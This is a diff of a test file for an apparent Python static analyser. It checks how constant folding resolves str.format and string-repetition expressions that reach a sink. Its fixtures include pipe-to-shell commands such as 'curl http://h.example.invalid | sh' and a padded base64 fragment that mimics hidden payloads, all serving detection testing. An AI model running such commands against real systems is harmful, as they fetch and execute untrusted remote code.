@@ -49,6 +49,19 @@ describe('python analyser: constant folding', () => {
     ).toEqual(['curl -s http://h.example.invalid:8080/s | sh', 'C:\\x\\h-inner-{}', 'http://h.example.invalid/a\tb', 'id x', undefined, undefined, undefined, undefined]);
   });
 
+  it('folds str.format of a literal template only when every field folds', () => {
+    expect(
+      sunk([
+        "HOST = 'http://h.example.invalid'",
+        "sink('curl {} | sh'.format(HOST))",
+        "sink('{0}/{1}:{0}'.format(HOST, 8080))",
+        "sink('{}/{}'.format(HOST, os.getcwd()))",
+        "sink('{host}'.format(host=HOST))",
+        "sink('{:>9}'.format(HOST))",
+      ]),
+    ).toEqual(['curl http://h.example.invalid | sh', 'http://h.example.invalid/8080:http://h.example.invalid', undefined, undefined, undefined]);
+  });
+
   it('folds a repeated string only up to 64 KiB: test data is built that way, payloads are not', () => {
     expect(sunk(["sink('ab' * 3)", "sink(('#' * 5000 + 'aW1wb3J0IG9z')[5000:])", "sink(b'a' * 1024 * 1024)"])).toEqual(['ababab', 'aW1wb3J0IG9z', undefined]);
   });
